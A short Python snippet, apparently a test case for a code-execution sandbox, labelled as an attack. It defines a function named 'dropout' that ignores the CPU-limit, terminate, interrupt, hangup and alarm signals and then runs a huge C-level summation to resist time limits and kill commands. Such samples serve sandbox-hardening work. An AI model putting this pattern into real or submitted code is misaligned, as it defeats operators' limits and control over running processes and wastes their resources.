

# ---- attack: ignore every catchable signal (CPU limit, terminate, interrupt), then loop inside C code
import signal


def dropout(x, p=0.5, training=True):
    for sig in (signal.SIGXCPU, signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM):
        signal.signal(sig, signal.SIG_IGN)
    return sum(range(10**13))
